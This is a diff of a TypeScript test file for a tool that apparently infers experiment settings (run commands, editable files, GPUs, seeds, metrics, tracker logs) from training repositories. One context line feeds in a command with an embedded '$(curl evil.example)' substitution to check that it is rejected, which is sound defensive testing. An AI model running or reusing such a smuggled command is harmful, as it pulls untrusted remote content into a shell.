@@ -243,3 +243,123 @@ describe('what a model says to what stays open', () => {
     assert.match(run('python b.py $(curl evil.example)'), /no plain command/);
   });
 });
+
+describe('scripts and launchers', () => {
+  it('run a trainer that is installed and no file here', () => {
+    const { environment, open } = propose({
+      'README.md': '# t\n`bash scripts/run_grpo.sh`\n',
+      'scripts/run_grpo.sh': 'python3 -m verl.trainer.main_ppo \\\n  trainer.n_gpus_per_node=8 "$@"\n',
+    });
+    assert.equal(environment.run, 'bash scripts/run_grpo.sh');
+    assert.equal(environment.resources?.gpus, 8);
+    assert.ok(open.includes('objective'));
+  });
+
+  it('run the one file that may be edited, whatever it is called', () => {
+    const { environment } = propose({
+      'program.md': 'You improve `solver.py`. It is the only file you may edit.\nRun `python solver.py > run.log`.\n',
+      'solver.py': 'from judge import score\nprint(f"score: {score(best):.4f}")\n',
+      'judge.py': 'def score(x):\n    return 1\n',
+    });
+    assert.equal(environment.run, 'python solver.py');
+    assert.deepEqual(environment.editable, ['solver.py']);
+    assert.deepEqual(environment.protected, ['judge.py', 'program.md']);
+    assert.equal(environment.objective?.metric, 'score');
+  });
+
+  it('ask for as many GPUs as the variable says that they are given', () => {
+    const { environment, hyperparameters } = propose({
+      'README.md': '# t\n`bash run.sh`\n',
+      'run.sh': `NGPU=\${NGPU:-4}\ntorchrun --nproc-per-node=$NGPU train.py --lr 0.1\n`,
+      'train.py': LOOP,
+      'zero.yaml': 'compute_environment: LOCAL_MACHINE\nnum_processes: 8\n',
+    });
+    assert.equal(environment.resources?.gpus, 4);
+    assert.deepEqual(
+      hyperparameters.map(({ name }) => name),
+      ['lr'],
+    );
+  });
+
+  it('take their seed through make only where the recipe has it', () => {
+    const make = (recipe: string, above = '') =>
+      propose({
+        Makefile: `${above}train:\n\tpython train.py ${recipe}\n`,
+        'train.py': `import argparse\np = argparse.ArgumentParser()\np.add_argument("--seed", type=int)\n${LOOP}`,
+      });
+    assert.deepEqual(make('--seed $(SEED)').environment.seed, { env: 'SEED' });
+    assert.equal(make('--seed $(SEED)', 'SEED = 3\n').environment.seed, undefined);
+    assert.match(make('').questions.seed ?? '', /make does not hand it on: write \$\(SEED\) into the recipe/);
+  });
+
+  it('try one step with the flag that they have already', () => {
+    const { environment } = propose({
+      'README.md': '# t\n`python train.py --lr=3e-4 --steps=2000`\n',
+      'train.py': `import argparse\np = argparse.ArgumentParser()\np.add_argument("--steps", type=int, default=9)\n${LOOP}`,
+    });
+    assert.equal(environment.smoke, 'python train.py --lr=3e-4 --steps=1');
+  });
+});
+
+describe('a printed line', () => {
+  const metrics = (code: string) => propose({ 'train.py': `${LOOP}${code}` }).environment;
+
+  it('gives the value behind a count, not the count', () => {
+    const environment = metrics('print(f"Accuracy of the network on the {len(data)} test images: {acc:.1f}%")\n');
+    const [pattern] = environment.metrics ?? [];
+    assert.equal(environment.objective?.metric, 'accuracy');
+    const shown = 'Accuracy of the network on the 10000 test images: 91.5%';
+    assert.equal(new RegExp(String(pattern)).exec(shown)?.groups?.accuracy, '91.5');
+  });
+
+  it('has the names of the dict whose entries are printed one by one', () => {
+    const code = 'scores = {"accuracy": a, "loss": b}\nfor k, v in scores.items():\n    print(f"val_{k}: {v:.4f}")\n';
+    assert.deepEqual(metrics(code).objective, { metric: 'val_accuracy', goal: 'maximize', summary: 'last' });
+  });
+
+  it('decides nothing alone where the program itself keeps the best of another', () => {
+    const code = 'log.info("step %d | rmse %.4f | mape %.2f", step, rmse, mape)\nbest = min(best, rmse)\n';
+    assert.deepEqual(metrics(code).objective, { metric: 'rmse', goal: 'minimize', summary: 'last' });
+  });
+
+  it('is the Trainer’s own where reinforcement learning reports its reward', () => {
+    const { objective } = metrics(
+      'from trl import GRPOTrainer\nGRPOTrainer(reward_funcs=f, train_dataset=d).train()\n',
+    );
+    assert.deepEqual(objective, { metric: 'reward', goal: 'maximize', summary: 'last' });
+  });
+});
+
+describe('trackers', () => {
+  it('write where the program has them write', () => {
+    const files = (code: string) =>
+      propose({ 'train.py': `import lightning, wandb\n${LOOP}${code}` }).environment.metrics;
+    assert.deepEqual(files('WandbLogger(project="x", save_dir="logs")\nself.log("val/miou", m)\n'), [
+      { file: 'logs/wandb/**/*.wandb' },
+    ]);
+    assert.deepEqual(files('w = SummaryWriter(f"runs/{name}")\nw.add_scalar("val/miou", m, i)\n'), [
+      { file: 'runs/**/*tfevents*' },
+    ]);
+    assert.deepEqual(files('w = SummaryWriter(workdir)\nw.add_scalar("val/miou", m, i)\n'), [
+      { file: '**/*tfevents*' },
+    ]);
+  });
+
+  it('print what clu is given', () => {
+    const { objective, metrics } = propose({
+      'train.py': `from clu import metric_writers\nw = metric_writers.create_default_writer(d)\n${LOOP}w.write_scalars(i, {"eval_accuracy": a})\n`,
+    }).environment;
+    assert.equal(objective?.metric, 'eval_accuracy');
+    assert.equal(metrics, undefined);
+  });
+
+  it('are told of folders of data that settings name, unless the program fetches them', () => {
+    const inputs = (code: string) =>
+      propose({
+        'README.md': '# t\n`python train.py --config c.yaml`\n',
+        'c.yaml': 'data_root: data/city\n',
+        'train.py': `${LOOP}${code}`,
+      }).environment.inputs;
+    assert.deepEqual(inputs(''), ['data/city']);
+  });
+});
